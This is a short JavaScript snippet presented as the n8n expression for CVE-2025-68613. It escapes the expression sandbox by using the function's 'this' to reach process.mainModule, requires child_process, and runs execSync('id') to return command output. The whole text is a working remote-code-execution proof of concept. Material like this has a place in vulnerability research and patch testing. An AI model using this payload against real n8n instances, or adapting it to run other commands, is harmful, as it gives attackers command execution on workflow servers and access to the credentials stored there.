// n8n (CVE-2025-68613): the expression that reached process.mainModule.
try {
  return (function () { return this.process.mainModule.require('child_process').execSync('id').toString(); })();
} catch (error) {
  return error instanceof TypeError ? null : String(error);
}
